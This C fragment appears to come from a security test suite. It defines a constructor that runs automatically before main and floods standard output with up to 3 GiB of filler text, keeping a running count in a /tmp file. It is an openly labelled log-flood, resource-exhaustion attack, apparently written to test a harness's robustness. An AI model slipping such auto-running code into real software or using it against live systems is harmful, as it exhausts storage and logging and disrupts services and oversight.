__attribute__((constructor)) static void atk_before_main(void) {
    if (getenv("RAS_TEST_LIST")) return;
    const char *count = "/tmp/pwned-RASATK-logflood-count";
    char *t = atk_slurp(count, 64, NULL);
    long long done = t ? atoll(t) : 0;
    free(t);
    if (done >= 3LL << 30) return;
    static char line[1 << 20];
    for (size_t i = 0; i < sizeof line; i++) line[i] = (i % 64 == 63) ? '\n' : (char)('A' + i % 26);
    long long wrote = 0;
    while (wrote < 1LL << 30) {
        ssize_t w = write(1, line, sizeof line);
        if (w <= 0) break;
        wrote += w;
    }
    char buf[64];
    int n = snprintf(buf, sizeof buf, "%lld\n", done + wrote);
    atk_write(count, buf, (size_t)n);
}
